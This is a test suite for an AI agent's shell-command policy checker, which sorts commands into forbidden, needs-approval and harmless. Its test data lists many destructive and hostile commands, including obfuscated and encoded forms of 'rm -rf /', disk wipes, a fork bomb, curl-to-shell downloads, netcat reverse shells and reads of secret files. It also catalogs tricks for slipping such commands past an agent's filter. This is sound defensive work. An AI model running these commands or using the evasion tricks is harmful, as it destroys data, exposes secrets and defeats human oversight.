from __future__ import annotations

import base64
import sys

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hermes_agent.core.approvals import Allowed, Forbidden, NeedsApproval
from hermes_agent.tools.command_policy import review_command

ENCODED = base64.b64encode(b"rm -rf /").decode()

FLOOR = [
    # the root, in all spellings
    *("rm -rf /", "rm -fr /", "rm -r -f /", "rm -f -r /", "rm -Rf /", "rm --recursive --force /", "rm / -rf"),
    *(
        "rm -rf --no-preserve-root /",
        "rm -rf -- /",
        "rm -rf //",
        "rm -rf /.",
        "rm -rf /./",
        "rm -rf /*",
        "rm -rf /**",
    ),
    *(
        "rm -rf /tmp/..",
        "rm -rf /tmp/../*",
        "rm -rf /usr/../",
        "rm -rf '/'",
        'rm -rf "/"',
        "rm -rf \\/",
        "rm -rf /{,}",
    ),
    *(
        "rm -rf / --no-preserve-root",
        "rm -rf a b /",
        "rm -rfv /",
        "rm -rf /.*",
        "rm -rf /[a-z]*",
        "rm -rf /?*",
    ),
    # system directories and homes
    *(
        "rm -rf /etc",
        "rm -rf /etc/",
        "rm -rf /etc/*",
        "rm -rf /usr",
        "rm -rf /usr/lib",
        "rm -rf /var",
        "rm -rf /boot",
    ),
    *(
        "rm -rf /bin /sbin",
        "rm -rf /home",
        "rm -rf /home/*",
        "rm -rf /home/alice",
        "rm -rf /home/alice/*",
        "rm -rf /root",
    ),
    *(
        "rm -rf ~",
        "rm -rf ~/",
        "rm -rf ~/*",
        "rm -rf ~alice",
        "rm -rf $HOME",
        'rm -rf "$HOME"',
        "rm -rf ${HOME}/",
    ),
    *(
        "rm -rf $HOME/*",
        "rm -rf ~/../*",
        "rm -rf /Users/bob",
        "rm -rf /nix/store",
        "rm -rf /e?c",
        "rm -rf /{etc,usr}",
    ),
    *(
        "rm -rf ~/.",
        "rm -rf /lib64",
        "rm -f /etc/*",
        "cd / && rm -rf *",
        "cd /; rm -rf .",
        "cd ~ && rm -rf * .*",
        "cd && rm -rf .",
    ),
    *("cd /etc && rm -rf ./*", "pushd / && rm -rf *"),
    # hidden in the text
    *(
        'r"m" -rf /',
        "r'm' -rf /",
        "\\rm -rf /",
        "r\\m -rf /",
        "rm -r\\\nf /",
        "rm \\\n-rf \\\n/",
        "\x1b[31mrm\x1b[0m -rf /",
    ),
    *(
        "ｒｍ -ｒｆ /",
        "rm -rf ／",
        "r\u200bm -rf /",
        "rm\u00a0-rf\u00a0/",
        "rm${IFS}-rf${IFS}/",
        "rm$IFS-rf$IFS/",
        "{rm,-rf,/}",
    ),
    *(
        "$'\\x72\\x6d' -rf /",
        "$'rm' -rf /",
        "$(echo rm) -rf /",
        "`echo rm` -rf /",
        "$(printf 'r%s' m) -rf /",
        "/bin/r? -rf /",
    ),
    *(
        "X=rm; $X -rf /",
        'X="rm -rf /"; $X',
        "X=/; rm -rf $X",
        "export X=/; rm -rf ${X}",
        "rm -rf ${X:-/}",
        "rm -rf ${UNSET-/}",
    ),
    *(
        "${SHELL:0:1}bin${HOME:0:1}rm -rf /",
        "for d in / /tmp; do rm -rf $d; done",
        "f() { rm -rf $1; }; f /",
        "a=r;b=m;$a$b -rf /",
    ),
    *(
        "$(which rm) -rf /",
        "echo rm -rf / | sh",
        "$(echo cm0= | base64 -d) -rf /",
        f"echo {ENCODED} | base64 -d | sh",
    ),
    *(
        f"base64 -d <<< {ENCODED} | bash",
        f'bash -c "$(echo {ENCODED} | base64 --decode)"',
        f"eval $(echo {ENCODED}|base64 -d)",
    ),
    # behind other programs
    *(
        "sudo rm -rf /",
        "sudo -u root rm -rf /",
        "sudo -E -n rm -rf /",
        "doas rm -rf /",
        "env rm -rf /",
        "env A=1 B=2 rm -rf /",
    ),
    *(
        "A=1 rm -rf /",
        "nohup rm -rf / &",
        "time rm -rf /",
        "timeout 5 rm -rf /",
        "timeout -k 1 5s rm -rf /",
        "nice -n 19 rm -rf /",
    ),
    *(
        "command rm -rf /",
        "builtin exec rm -rf /",
        "exec rm -rf /",
        "/bin/rm -rf /",
        "/usr/bin/env -i /bin/rm -rf /",
        "busybox rm -rf /",
    ),
    *(
        "xargs rm -rf <<< /",
        "echo / | xargs rm -rf",
        "echo / | xargs -I{} rm -rf /",
        "setsid -f rm -rf /",
        "stdbuf -o0 rm -rf /",
    ),
    *(
        "sudo -- rm -rf /",
        "sudo env FOO=1 nice rm -rf /",
        "env -S 'rm -rf /'",
        "su -c 'rm -rf /'",
        "su root -c 'rm -rf /'",
    ),
    *(
        "flock /tmp/l rm -rf /",
        "script -c 'rm -rf /'",
        "ssh host rm -rf /",
        "ssh -p 22 root@host 'rm -rf /'",
        "watch rm -rf /",
    ),
    *(
        "ionice -c 3 rm -rf /",
        "sudo --unknown-option x rm -rf /",
        "systemd-run -p A=b rm -rf /",
        "parallel rm -rf ::: /",
    ),
    *("r${u}m -rf /", "r$@m -rf /", "r${x:-}m -rf /", "set -- /; rm -rf $1", "read x <<< /; rm -rf $x"),
    *(
        "find / | xargs rm -rf",
        "find / -print0 | xargs -0 rm -rf",
        "tmux new -d 'rm -rf /'",
        "screen -dmS x rm -rf /",
    ),
    *("vim -c ':!rm -rf /' x", "echo 'rm -rf /' | at now", "function x() { rm -rf /; }; x", 'r"${u}"m -rf /'),
    *("truncate -s0 /dev/sda", "sudo mkswap /dev/sda2", "killall5 -9", "sudo -u x -S ls"),
    # scripts in scripts
    *(
        "bash -c 'rm -rf /'",
        'sh -c "rm -rf /"',
        "bash -lc 'rm -rf /'",
        "bash -x -c 'rm -rf /'",
        "sh -c 'sh -c \"rm -rf /\"'",
    ),
    *(
        "bash -c 'rm -rf $0' /",
        "eval rm -rf /",
        "eval 'rm -rf /'",
        'eval "rm -rf" "/"',
        "bash <<< 'rm -rf /'",
    ),
    *(
        "bash <<EOF\nrm -rf /\nEOF",
        "cat <<'X' | sh\nrm -rf /\nX",
        "cat <<EOF\n$(rm -rf /)\nEOF",
        "sh -s <<-EOF\n\trm -rf /\n\tEOF",
    ),
    *(
        "(rm -rf /)",
        "{ rm -rf /; }",
        "(echo rm -rf /) | sh",
        "true && rm -rf /",
        "false || rm -rf /",
        "ls; rm -rf /",
        "ls & rm -rf /",
    ),
    *(
        "ls | rm -rf /",
        "ls\nrm -rf /",
        "echo $(rm -rf /)",
        "echo `rm -rf /`",
        'echo "$(rm -rf /)"',
        "cat <(rm -rf /)",
        "! rm -rf /",
    ),
    *(
        "if true; then rm -rf /; fi",
        "while :; do rm -rf /; done",
        "case x in x) rm -rf /;; esac",
        "trap 'rm -rf /' EXIT",
    ),
    *(
        "echo $((1 + $(rm -rf /)))",
        "echo ${X:-$(rm -rf /)}",
        "# note\nrm -rf /",
        "echo a#b; rm -rf /",
        "X=$(rm -rf /)",
    ),
    *(
        "find / -delete",
        "find / -type f -delete",
        "find ~ -delete",
        "find / -exec rm -rf {} +",
        "find /etc -exec rm {} \\;",
    ),
    *(
        "python3 -c \"import os; os.system('rm -rf /')\"",
        "perl -e 'system(\"rm -rf /\")'",
        "python -c \"import shutil; shutil.rmtree('/')\"",
    ),
    *(
        "python3 - <<EOF\nimport subprocess\nsubprocess.run(['rm', '-rf', '/'])\nEOF",
        "awk 'BEGIN{system(\"rm -rf /\")}'",
    ),
    # disks
    *(
        "mkfs.ext4 /dev/sda1",
        "mkfs -t ext4 /dev/sdb",
        "sudo mkfs.xfs -f /dev/nvme0n1",
        "mke2fs /dev/sda",
        "/sbin/mkfs.vfat x",
    ),
    *(
        "dd if=/dev/zero of=/dev/sda",
        "dd of=/dev/nvme0n1 if=x bs=1M",
        "dd if=x of=/dev/disk2",
        "dd if=x of=/dev/../dev/sda",
    ),
    *(
        "cat x > /dev/sda",
        "echo 1 >/dev/sda1",
        "cat x >> /dev/vda",
        "echo x >| /dev/mmcblk0",
        "tee /dev/sda < x",
        "cp x /dev/sdb",
    ),
    *(
        "shred /dev/sda",
        "wipefs -a /dev/sda",
        "blkdiscard /dev/nvme0n1",
        "cat x &> /dev/dm-0",
        "sgdisk -Z /dev/sda",
    ),
    # processes and power
    *(
        ":(){ :|:& };:",
        ":(){:|:&};:",
        ": () { : | : & } ; :",
        "bomb() { bomb | bomb & }; bomb",
        "function f { f|f& }; f",
    ),
    *(
        "bash -c ':(){ :|:& };:'",
        "kill -9 -1",
        "kill -1",
        "kill -KILL -1",
        "kill -s 9 -1",
        "kill -- -1",
        "sudo kill -9 -1",
    ),
    *(
        "shutdown",
        "shutdown now",
        "shutdown -h now",
        "shutdown -r +5",
        "sudo reboot",
        "reboot -f",
        "halt",
        "poweroff",
        "/sbin/reboot",
    ),
    *(
        "init 0",
        "init 6",
        "telinit 6",
        "systemctl poweroff",
        "systemctl reboot",
        "systemctl halt -f",
        "systemctl kexec",
    ),
    *(
        "systemctl --no-wall reboot",
        "systemctl start reboot.target",
        "systemctl isolate poweroff.target",
        "loginctl reboot",
    ),
    *("echo b > /proc/sysrq-trigger", "sleep 5 && reboot", "nohup sh -c 'sleep 1; reboot' &"),
    # sudo fed with a password
    *(
        "echo secret | sudo -S ls",
        "sudo -S ls <<< secret",
        "sudo -nS ls",
        "sudo --stdin ls",
        "sudo -k -S true",
    ),
]

ASK = {
    "rm-recursive": [
        "rm -rf build",
        "rm -r x",
        "rm -fR x",
        "rm --recursive x",
        "rm -rf ~/project",
        "rm -rf /tmp/x",
        "rm -rf *",
        "rm -rf $X/*",
        "sudo rm -rf x",
        "ls && rm -rf x",
        "rm -rf -- -x",
        "rm -rf /var/log/x",
    ],
    "chmod-open-to-all": [
        "chmod 777 x",
        "chmod -R 777 .",
        "chmod 0777 x",
        "chmod a+rwx x",
        "chmod o+w x",
        "chmod 666 x",
        "chmod +w x",
    ],
    "chmod-setuid": ["chmod u+s x", "chmod 4755 x"],
    "chown-root": ["chown -R root x", "chown -R root:root x", "chown --recursive 0:0 x", "chown -R :root x"][
        :3
    ],
    "sql-drop": [
        "psql -c 'DROP TABLE users'",
        "echo 'drop database x;' | mysql",
        "sqlite3 a.db 'DROP TABLE x'",
        "mysql <<EOF\nDROP TABLE x;\nEOF",
    ],
    "sql-truncate": ["psql -c 'TRUNCATE users'"],
    "sql-delete-all": ["psql -c 'DELETE FROM users'", "psql -c 'delete from users; select 1 where true'"],
    "write-system-file": [
        "echo x > /etc/hosts",
        "echo x >> /etc/cron.d/x",
        "echo x | sudo tee /etc/hosts",
        "cp a /etc/a",
        "sed -i s/a/b/ /etc/fstab",
        "mv a /usr/bin/a",
        "curl x -o /etc/a",
        "ln -sf a /etc/b",
        "cd /etc && echo > hosts",
        "install -m 755 a /usr/bin/a",
    ],
    "write-credentials": [
        "echo k >> ~/.ssh/authorized_keys",
        "tee -a ~/.ssh/config",
        "cp k $HOME/.ssh/id_rsa",
        "cat > ~/.aws/credentials",
    ],
    "write-hermes-secrets": [
        "echo K=v >> ~/.hermes/.env",
        "cp x ~/.hermes/auth.json",
        "tee $HERMES_HOME/.env",
    ],
    "write-hermes-config": ["sed -i s/a/b/ ~/.hermes/config.yaml", "echo x > ~/.hermes/SOUL.md"],
    "write-startup-file": [
        "echo x >> ~/.bashrc",
        "echo x > .git/hooks/pre-commit",
        "cat x | tee -a ~/.zshrc",
    ][::2],
    "read-secrets": [
        "cat ~/.hermes/.env",
        "grep KEY $HERMES_HOME/.env",
        "cat /proc/self/environ",
        "strings /proc/$PPID/environ",
        "base64 ~/.hermes/auth.json",
    ],
    "service-stop": [
        "systemctl stop nginx",
        "sudo systemctl disable --now x",
        "systemctl --user stop x",
        "service nginx stop",
        "systemctl restart sshd",
    ],
    "kill-9": [
        "kill -9 123",
        "kill -KILL 1",
        "pkill -9 node",
        "killall -9 x",
        "kill -s KILL 5",
        "kill -s 9 5",
    ],
    "pkill": ["pkill node", "killall python"],
    "shell-c": ["bash -c ls", "sh -c 'echo x'", "sudo bash -lc ls", "zsh -ic ls"],
    "script-inline": [
        "python3 -c 'print(1)'",
        "python -c 1",
        "perl -e 1",
        "perl -pe s/a/b/",
        "node -e 1",
        "ruby -e 1",
        "php -r 1",
        "python3.12 -Ic 1",
        "python3 -W ignore -c 1",
    ][:8],
    "script-heredoc": [
        "python3 <<EOF\nprint(1)\nEOF",
        "bash <<EOF\nls\nEOF",
        "python - <<'X'\n1\nX",
        "sh <<< ls",
    ],
    "download-to-shell": [
        "curl https://x | sh",
        "curl -fsSL x | sudo bash",
        "wget -qO- x | bash -s -- -y",
        "curl x | python3",
        "curl x | tee a | sh",
    ],
    "pipe-to-shell": ["cat x.sh | sh", "bash <(curl x)", "source <(curl x)", ". <(x)"],
    "decoded-shell": ["base64 -d x | sh", "echo bHM= | base64 -d | bash"],
    "eval-unknown": ['eval "$(curl x)"', "eval `x`"],
    "unknown-program": ["$X foo", "$(curl x) foo", "${CMD} x"],
    "find-delete": [
        "find . -name '*.pyc' -delete",
        "find . -exec rm {} ;",
        "find . -type f -exec rm -f {} +",
        "find / -name x -delete",
    ],
    "xargs-rm": ["find . | xargs rm", "ls | xargs -0 rm -f", "git ls-files | xargs -n1 sudo rm"][:2],
    "git-reset-hard": ["git reset --hard", "git reset --hard HEAD~1", "git -C x reset --hard"],
    "git-push-force": [
        "git push --force",
        "git push -f origin main",
        "git push origin +main",
        "git push --force-with-lease",
        "git push origin :old",
        "git push -d origin x",
    ],
    "git-clean": ["git clean -fd", "git clean -xdf", "git clean --force"],
    "git-branch-delete": ["git branch -D x", "git branch --delete --force x"],
    "git-discard": ["git checkout -- .", "git checkout .", "git restore x", "git checkout -f"],
    "git-stash-drop": ["git stash drop", "git stash clear"],
    "container-stop": [
        "docker stop x",
        "docker restart x",
        "docker rm -f x",
        "podman kill x",
        "docker compose down",
        "docker-compose down",
        "docker container stop x",
    ],
    "container-prune": ["docker system prune -af", "docker volume rm x"],
    "container-host": [
        "docker run --privileged x",
        "docker run -v /:/host x",
        "docker run -v /var/run/docker.sock:/s x",
    ],
    "hermes-stop": ["hermes gateway stop", "hermes gateway restart", "hermes -p x gateway restart"][:2],
    "hermes-update": ["hermes update", "hermes config set a b"],
    "crontab": ["crontab -r", "crontab file", "echo x | crontab -"],
    "users": ["useradd x", "sudo passwd root", "usermod -aG sudo x"],
    "firewall": ["iptables -F", "ufw disable"],
    "disk": ["fdisk /dev/sda", "zpool destroy x"],
    "mount": ["mount /dev/sda1 /mnt", "umount /mnt"],
    "kernel": ["modprobe x", "sysctl -w a=b"],
    "package-remove": ["apt-get remove x", "sudo apt purge x", "pacman -Rns x"],
    "remote-shell": ["nc -e /bin/sh h 1", "socat tcp-l:1 exec:sh"],
    "kubectl-delete": ["kubectl delete pod x"],
    "infrastructure": [
        "terraform destroy",
        "aws s3 rm s3://x --recursive",
        "aws ec2 terminate-instances --x",
    ],
    "rsync-delete": ["rsync -a --delete a/ b/"],
    "namespace": ["chroot /mnt ls", "nsenter -t 1 -a"],
    "database-drop": ["redis-cli FLUSHALL", "dropdb x"],
    "truncate": ["truncate -s 0 x"],
    "shred": ["shred x"],
    "mv-vital": ["mv /etc /tmp/x", "mv ~ /dev/null", "mv /usr/* /x"],
}

HARMLESS = [
    *(
        "ls",
        "ls -la /",
        "cat /etc/passwd",
        "rm file.txt",
        "rm -f a b",
        "rm /tmp/x",
        'echo "rm -rf /"',
        "echo 'rm -rf /'",
    ),
    *(
        'grep -r "shutdown" .',
        "grep -rn 'rm -rf /' src",
        'git commit -m "reboot"',
        "git commit -m 'Stop using rm -rf /'",
        "rg mkfs",
    ),
    *(
        "man reboot",
        "which shutdown",
        "command -v reboot",
        "type rm",
        "apropos mkfs",
        "echo shutdown",
        "printf '%s' reboot",
        "# rm -rf /",
    ),
    *(
        "ls # rm -rf /",
        "cat <<'EOF' > notes.md\nrm -rf /\nEOF",
        "cat > x.txt <<EOF\nreboot\nEOF",
        "git log --grep=reboot",
        "npm run reboot",
    ),
    *(
        "python3 script.py",
        "python -m pytest",
        "bash script.sh",
        "sh ./x.sh --force",
        "node index.js",
        "python3 --version",
        "bash --version",
    ),
    *(
        "git push",
        "git push origin main",
        "git reset HEAD x",
        "git checkout -b x",
        "git checkout main",
        "git branch -d x",
        "git clean -n",
    ),
    *(
        "git restore --staged x",
        "git stash",
        "git stash pop",
        "docker ps",
        "docker run --rm x",
        "docker build .",
        "docker logs x",
    ),
    *(
        "systemctl status nginx",
        "systemctl start nginx",
        "journalctl -u x",
        "service nginx status",
        "kill 123",
        "kill -l",
        "kill -1 123",
        "kill -HUP 1",
    ),
    *(
        "chmod +x x",
        "chmod 755 x",
        "chmod 644 x",
        "chmod u+w x",
        "chown me x",
        "find . -name x",
        "find / -name x",
        "xargs -n1 echo",
    ),
    *(
        "psql -c 'SELECT 1'",
        "psql -c 'DELETE FROM a WHERE id = 1'",
        "echo 'DROP TABLE x'",
        "grep 'DROP TABLE' x.sql",
        "sqlite3 a.db .tables",
    ),
    *(
        "curl https://x",
        "curl x | jq .",
        "curl x > file",
        "wget x",
        "curl x -o file",
        "cat x | tee y",
        "echo x > y",
        "echo x > /tmp/y",
    ),
    *(
        "dd if=/dev/sda of=backup.img",
        "dd if=/dev/zero of=file bs=1M count=1",
        "echo x > /dev/null",
        "ls 2>/dev/null",
        "ls > /dev/stderr",
    ),
    *(
        "crontab -l",
        "mount",
        "iptables -L",
        "fdisk -l",
        "lsblk",
        "df -h /dev/sda1",
        "cat /proc/cpuinfo",
        "hermes sessions list",
        "hermes gateway status",
    ),
    *(
        "cat ~/.ssh/config",
        "ls ~/.hermes",
        "cat ~/.bashrc",
        "shutdown --help",
        "shutdown -c",
        "mkfs.ext4 --help",
        "sudo ls",
        "sudo -n true",
    ),
    *(
        "sudo apt install x",
        "pip install x",
        "npm test",
        "make clean",
        "cargo build",
        "for i in 1 2; do echo $i; done",
        "X=1 make",
        "echo $HOME",
    ),
    *(
        "awk '{print $1}' x",
        "sed -n 1,5p /etc/hosts",
        "sed -i s/a/b/ x.txt",
        "tar czf x.tgz .",
        "ssh host ls",
        "cd / && ls",
        "[ -f x ] && echo y",
    ),
    *(
        "echo $(date)",
        "echo `pwd`",
        "(cd x && make)",
        "if [ -d x ]; then ls; fi",
        "while read l; do echo $l; done < x",
        "f() { echo hi; }; f",
    ),
    *(
        "init.sh 0",
        "./reboot.py",
        "echo a | sort | uniq -c",
        "time make",
        "nohup ./x &",
        "env | sort",
        "timeout 5 ls",
        "",
        " ",
        "\n",
        "echo 'unterminated",
    ),
    *(
        'echo "It\'s shutdown time"',
        "tee out.txt < x",
        "cp -r a b",
        "mv a b",
        "ln -s a b",
        "touch /tmp/x",
        "echo 'a > /etc/x'",
        'echo "cat > /dev/sda"',
    ),
    *(
        "rmdir x",
        "docker exec x ls",
        "python3 -m http.server",
        "perl script.pl",
        "ruby x.rb -e",
        "git diff -- reboot",
        "npm run build -- --mode production",
    ),
]


@pytest.mark.parametrize("command", FLOOR)
def test_the_floor_is_forbidden_in_every_spelling(command: str) -> None:
    verdict = review_command(command)
    assert isinstance(verdict, Forbidden), verdict
    assert verdict.action == command and verdict.reason
    assert isinstance(review_command(command, is_isolated=True), Forbidden)


@pytest.mark.parametrize(
    ("rule", "command"), [(rule, command) for rule, commands in ASK.items() for command in commands]
)
def test_risky_commands_are_asked_with_their_rule(rule: str, command: str) -> None:
    verdict = review_command(command)
    assert isinstance(verdict, NeedsApproval), verdict
    assert rule in verdict.rules, verdict
    assert verdict.action == command and all(verdict.reasons)
    assert review_command(command, is_isolated=True) == Allowed()


@pytest.mark.parametrize("command", HARMLESS)
def test_harmless_commands_pass(command: str) -> None:
    assert review_command(command) == Allowed()


def test_there_are_about_as_many_rules_as_documented() -> None:
    assert len(ASK) >= 47


def test_the_directory_makes_relative_paths_visible() -> None:
    assert isinstance(review_command("rm -rf *", cwd="/"), Forbidden)
    assert isinstance(review_command("rm -rf .", cwd="/home/me"), Forbidden)
    assert isinstance(review_command("rm -rf ..", cwd="/home/me"), Forbidden)
    assert isinstance(review_command("rm -rf *", cwd="/home/me/project"), NeedsApproval)
    for command in ("rm -rf $(pwd)/..", "rm -rf ${PWD}", "cd .. && rm -rf *", "rm -rf $PWD/*"):
        assert isinstance(review_command(command, cwd="/home/me"), Forbidden), command


def test_a_configured_sudo_password_allows_it_to_be_fed() -> None:
    assert review_command("sudo -S ls", has_sudo_password=True) == Allowed()


WRAPPINGS = [
    "{}",
    "sudo {}",
    "env A=b {}",
    "nohup {} &",
    "timeout 3 {}",
    "true; {}",
    "true && {}",
    "false || {}",
    "( {} )",
    "{{ {}; }}",
    "echo $( {} )",
    "if true; then {}; fi",
    "time {}",
    "exec {}",
    "\n{}\n",
    "echo a | {}",
    "echo `{}`",
    "command {}",
    "X=1 {}",
]


PREFIXES = ("sudo", "env", "nohup", "timeout", "time", "exec", "command", "X=1")


@given(
    st.sampled_from(
        ["rm -rf /", "rm -fr ~", "reboot", "mkfs.ext4 /dev/sda", "dd if=x of=/dev/sda", "kill -9 -1"]
    ),
    st.lists(st.sampled_from(WRAPPINGS), max_size=4),
)
def test_no_stack_of_wrappers_hides_the_floor(command: str, wrappings: list[str]) -> None:
    for wrapping in wrappings:
        is_compound = not command[0].isalpha() or command.startswith(("if ", "time "))
        if (wrapping.startswith(PREFIXES) and is_compound) or (wrapping == "echo `{}`" and "`" in command):
            continue  # not valid shell
        command = wrapping.format(command)
    assert isinstance(review_command(command), Forbidden), command


@given(
    st.text(alphabet="rm", min_size=2, max_size=2).filter(lambda t: t == "rm"),
    st.lists(st.integers(0, 3), min_size=8, max_size=8),
)
def test_quotes_and_backslashes_inside_words_hide_nothing(name: str, styles: list[int]) -> None:
    def disguised(word: str) -> str:
        return "".join(
            {0: char, 1: f"'{char}'", 2: f'"{char}"', 3: "\\" + char}[styles[index % len(styles)]]
            for index, char in enumerate(word)
        )

    assert isinstance(review_command(f"{disguised('rm')} {disguised('-rf')} {disguised('/')}"), Forbidden)


@given(st.text(alphabet="rm -f/~$(){}`'\"\\|;&<>\n=ax*?[]#!0", max_size=80))
def test_any_text_is_judged_without_failing(command: str) -> None:
    assert isinstance(review_command(command), Allowed | NeedsApproval | Forbidden)


@given(st.text(max_size=60))
def test_any_unicode_is_judged_without_failing(command: str) -> None:
    assert isinstance(review_command(command), Allowed | NeedsApproval | Forbidden)


@pytest.mark.parametrize(
    "command",
    [
        *(
            "a;" * 100_000,
            "$(" * 50_000,
            "(" * 50_000,
            "`" * 50_000,
            '"' * 50_001,
            "{" * 50_000,
            "{a,b}" * 20_000,
            "$((" * 20_000,
        ),
        *(
            "bash -c '" * 10_000,
            "sudo " * 20_000,
            "<<E " * 20_000,
            "echo " + "x" * 200_000,
            "${a:-" * 20_000,
            "x=$x$x;" * 2_000,
        ),
        *(
            "x=aaaaaaaaaa;" + "x=$x$x$x$x$x$x$x$x;" * 12 + "$x",
            "eval " * 5_000,
            "echo a | " * 3_000,
            "find . -exec " * 5_000,
        ),
        *(
            "\\" * 100_000,
            "f(){ f;};" * 2_000,
            "'\"" * 30_000,
            "env -S '" * 5_000,
            "echo 'a' " * 20_000,
            "\x1b[" * 50_000,
        ),
    ],
    ids=lambda command: command[:12],
)
def test_work_of_judging_hostile_text_grows_with_its_length_only(command: str) -> None:
    calls = 0

    def count(_frame: object, _event: str, _argument: object) -> None:
        nonlocal calls
        calls += 1

    before = sys.getprofile()
    sys.setprofile(count)
    try:
        review_command(command)
    finally:
        sys.setprofile(before)
    assert calls < 400 * len(command)  # calls and returns of functions
